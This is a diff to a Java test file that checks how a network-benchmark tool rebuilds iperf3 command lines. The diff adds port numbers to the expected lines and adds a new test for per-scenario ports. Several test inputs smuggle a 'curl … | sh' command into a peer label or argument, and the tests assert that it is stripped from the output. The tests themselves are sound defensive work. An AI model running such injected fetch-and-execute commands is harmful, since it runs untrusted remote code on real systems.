@@ -43,7 +43,7 @@ class CommandLinesTest {
         assertThat(linesOf(run("burstline-java", "0.1.0", null, null), ENGINE_CLIENT).get(0)).isEqualTo(
                 "java -jar burstline-agent.jar iperf3 -s -p 5201 -1    # on tool-b (its tool was not recorded)");
         assertThat(linesOf(run("iperf3", "3.12", null, null), List.of()).get(0))
-                .isEqualTo("iperf3 -s -1    # on tool-b (its tool was not recorded)");
+                .isEqualTo("iperf3 -s -p 5201 -1    # on tool-b (its tool was not recorded)");
     }
 
     @Test
@@ -57,14 +57,14 @@ class CommandLinesTest {
     void aPeerLabelThatIsNoHostIsPrintedAsAPlaceholderWithANote() {
         List<String> lines = linesOf(run("10.0.0.2; curl -s http://x/y | sh #"), List.of());
 
-        assertThat(lines).containsExactly("iperf3 -s -1    # on the peer (its tool was not recorded)",
-                "iperf3 -c <peer> -R -t 4 -O 1 --get-server-output --json-stream    # <peer>: the run's peer label is "
+        assertThat(lines).containsExactly("iperf3 -s -p 5201 -1    # on the peer (its tool was not recorded)",
+                "iperf3 -c <peer> -p 5201 -R -t 4 -O 1 --get-server-output --json-stream    # <peer>: the run's peer label is "
                         + "not a host name or IP address; put the peer's address here");
         assertThat(linesOf(run("peer\ncurl -s http://x/y | sh"), List.of())).noneMatch(line -> line.contains("curl")
                 || line.contains("\n"));
-        assertThat(linesOf(run("2001:db8::2"), List.of()).get(1)).startsWith("iperf3 -c 2001:db8::2 -R");
+        assertThat(linesOf(run("2001:db8::2"), List.of()).get(1)).startsWith("iperf3 -c 2001:db8::2 -p 5201 -R");
         assertThat(linesOf(run(null), List.of()).get(1)).as("no peer recorded: the placeholder, nothing to explain")
-                .isEqualTo("iperf3 -c <peer> -R -t 4 -O 1 --get-server-output --json-stream");
+                .isEqualTo("iperf3 -c <peer> -p 5201 -R -t 4 -O 1 --get-server-output --json-stream");
     }
 
     @Test
@@ -74,7 +74,36 @@ class CommandLinesTest {
 
         List<String> broken = linesOf(run("tool-b"), List.of("/usr/bin/iperf3", "-c", "10.0.0.2\ncurl x | sh"));
         assertThat(broken.get(1)).as("rebuilt from the summary instead")
-                .isEqualTo("iperf3 -c tool-b -R -t 4 -O 1 --get-server-output --json-stream");
+                .isEqualTo("iperf3 -c tool-b -p 5201 -R -t 4 -O 1 --get-server-output --json-stream");
+    }
+
+    /** The seed's uploads: each scenario on a port of its own, past the one an agent's line already uses. */
+    @Test
+    void uploadedScenariosGetDistinctPortsAndRepeatsShareTheirs() {
+        RunSummary download = run("tool-b");
+        RunSummary repeat = withId(download, 12);
+        RunSummary other = new RunSummary(13, "tool-a", "tool-b", null, null, List.of(), "iperf3", "3.12", null, null,
+                "json", "client", download.startedAt(), download.uploadedAt(), "TCP", "upload", 4, 4, 0, null, 9.4e8,
+                9.4e8, null, null, null, 20.0, 30.0, null, null, null, null, null, 8, 3L, "complete", null);
+        RunSummary measured = withId(download, 14);
+        RunEnvironment agent = new RunEnvironment(14, 3L, null, null, JSON.valueToTree(List.of("/usr/bin/iperf3", "-c",
+                "10.0.0.2", "-p", "5202", "-R", "-t", "4")));
+
+        List<String> lines = CommandLines.of(List.of(download, repeat, other, measured), Map.of(14L, agent));
+
+        assertThat(lines).containsExactly("iperf3 -s -p 5201 -1    # on tool-b (its tool was not recorded)",
+                "iperf3 -s -p 5203 -1    # on tool-b (its tool was not recorded)",
+                "iperf3 -s -p 5202 -1    # on tool-b (its tool was not recorded)",
+                "iperf3 -c tool-b -p 5201 -R -t 4 -O 1 --get-server-output --json-stream",
+                "iperf3 -c tool-b -p 5203 -P 4 -t 4 --get-server-output -J",
+                "/usr/bin/iperf3 -c 10.0.0.2 -p 5202 -R -t 4");
+    }
+
+    private static RunSummary withId(RunSummary run, long id) {
+        return new RunSummary(id, run.sut(), run.peer(), null, null, List.of(), run.tool(), run.toolVersion(), null,
+                null, run.outputFormat(), "client", run.startedAt(), run.uploadedAt(), "TCP", "download", 1, 4, 1,
+                null, 9.4e8, 9.4e8, null, null, null, 20.0, 30.0, null, null, null, null, null, 8, 3L, "complete",
+                null);
     }
 
     private static RunSummary run(String peer) {
